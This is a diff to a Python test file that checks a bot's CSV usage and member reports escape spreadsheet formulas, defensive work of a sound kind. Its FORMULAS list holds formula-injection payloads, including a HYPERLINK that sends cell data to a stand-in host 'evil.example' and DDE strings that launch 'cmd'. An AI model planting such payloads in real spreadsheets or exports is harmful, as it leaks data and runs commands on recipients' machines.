@@ -9,8 +9,15 @@ from PIL import Image
 
 from bot.images.types import Usage
 from bot.quotas import QuotaEngine, UsageSummary
-from bot.reports import CHART_SIZE, CSV_HEADER, usage_chart_png, usage_csv
-from bot.store import QuotaPolicy, Spend, Store
+from bot.reports import (
+    CHART_SIZE,
+    CSV_HEADER,
+    MEMBERS_HEADER,
+    members_csv,
+    usage_chart_png,
+    usage_csv,
+)
+from bot.store import QuotaPolicy, Reservation, Spend, Store
 from tests.fakes.stores import (  # noqa: F401 - fixtures
     ManualClock,
     clock_fixture,
@@ -119,3 +126,56 @@ async def test_the_csv_holds_the_ledger_rows(store: Store, clock: ManualClock) -
 
 def test_an_empty_ledger_is_just_the_header() -> None:
     assert list(csv.reader(io.StringIO(usage_csv([]).decode()))) == [list(CSV_HEADER)]
+
+
+def charge(user_id: int, credits: int, model: str = "gpt-image-1", images: int = 1) -> Reservation:
+    return Reservation(
+        id=user_id, guild_id=GUILD, user_id=user_id, job_id=None, model=model, size=None,
+        quality=None, n=images, cost_per_image=credits, credits=credits, status="committed",
+        window="day", window_start=0, server_window="month", server_window_start=0,
+        created_at=1_700_049_600.0, expires_at=1_700_051_400.0, charged=credits, images=images,
+    )  # fmt: skip
+
+
+def parsed(data: bytes) -> list[list[str]]:
+    return list(csv.reader(io.StringIO(data.decode("utf-8"))))
+
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+9)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+def test_member_names_that_a_spreadsheet_would_run_are_kept_as_text() -> None:
+    names = {uid: name for uid, name in enumerate(FORMULAS, start=1)}
+    charges = [charge(uid, credits=100 - uid) for uid in names]
+
+    rows = parsed(members_csv(charges, names))
+
+    assert tuple(rows[0]) == MEMBERS_HEADER
+    assert [row[1] for row in rows[1:]] == ["'" + name for name in FORMULAS]
+    assert [int(row[0]) for row in rows[1:]] == list(names)  # biggest spender first
+
+
+def test_plain_names_stay_as_they_are_and_an_unknown_member_is_never_an_empty_cell() -> None:
+    charges = [charge(1, 8), charge(2, 4), charge(1, 4, images=2), charge(3, 1)]
+
+    rows = parsed(members_csv(charges, {1: 'Ada, the "Countess"', 2: "Bob = Builder"}))
+
+    assert rows[1:] == [
+        ["1", 'Ada, the "Countess"', "12", "3", "2"],
+        ["2", "Bob = Builder", "4", "1", "1"],
+        ["3", "(unknown)", "1", "1", "1"],
+    ]
+
+
+def test_the_ledger_keeps_text_cells_from_running_as_formulas() -> None:
+    rows = parsed(usage_csv([charge(1, 4, model="=gateway-model")]))
+
+    assert rows[1][CSV_HEADER.index("model")] == "'=gateway-model"
+    assert rows[1][CSV_HEADER.index("credits")] == "4"
